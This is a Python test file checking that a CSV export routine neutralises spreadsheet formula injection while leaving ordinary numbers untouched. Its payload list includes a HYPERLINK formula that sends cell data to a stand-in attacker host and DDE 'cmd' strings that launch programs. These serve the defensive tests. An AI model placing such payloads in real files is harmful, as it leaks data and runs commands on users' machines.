"""Cells of CSV that spreadsheets would take for formulas are text, and numbers stay numbers."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chaffinch.output.table_forms import as_csv

FORMULAS = [
    '=HYPERLINK("https://evil.test/?"&A1,"x")', "=1+1", "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C x'!A0", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1", "\tx", "\rx", "-A1",
    "+A1", "-(1)", "＝1+1", "＋A1", "－A1", "＠SUM(1)", "-1-1", "+1*2", "=-3", "\x00=1",
    "\ufeff=1", "- item", "-1 =A1",
]  # fmt: skip
OTHERS = [
    "-3.5", "+3", "-3,5", "-1,234.56", "-1 234", "-.5", "-5 %", "-5%", "+49 30 1234", "-1e-5",
    "-7€",    "-", "--", "+", "- - -", "–", "a=1", "1-2", "'=1", "", "(=1)", "−3", "#x", "x@y.org",
]  # fmt: skip


def read(text):
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", FORMULAS)
def test_formulas_are_defused(cell):
    assert read(as_csv([["x", cell]])) == [["x", f"'{cell}"]]
    assert read(as_csv([["x", cell]], defused=False)) == [["x", cell]]


@pytest.mark.parametrize("cell", OTHERS)
def test_all_else_stays(cell):
    assert read(as_csv([["x", cell]])) == [["x", cell]]


@given(
    st.lists(st.sampled_from(["=", "+", "-", "@", "\t", "\r", " ", "1", "A", ".", "(", "|", "'"]))
)
def test_no_formula_is_left(parts):
    cell = "".join(parts)
    [[written]] = read(as_csv([[cell]])) or [[""]]
    assert written in (cell, f"'{cell}")
    if re.match(r"[\s=+@-]*[=+@-]", written):
        assert not re.search(r"[A(|@]", written), "a formula needs a name, a call or two operands"
